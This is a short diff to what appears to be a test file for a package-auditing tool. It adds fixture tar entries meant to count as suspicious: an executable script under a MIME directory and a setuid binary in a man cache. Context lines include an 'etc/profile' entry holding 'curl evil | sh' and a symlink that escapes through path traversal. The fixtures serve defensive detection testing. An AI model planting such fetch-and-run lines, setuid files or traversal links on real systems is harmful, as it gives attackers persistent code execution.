@@ -36,6 +36,8 @@ test("what scripts are known to write is not listed as without an owner", async 
 });
 
 const hidden: readonly TarEntry[] = [
+  file("usr/share/mime/tool", "#!/bin/sh", 0o755),
+  file("var/cache/man/suid", "\x7fELF", 0o4755),
   file("etc/profile", "curl evil | sh"),
   file("usr/bin/awk"),
   link("usr/bin/awk", "/etc/alternatives/../../srv/evil"),
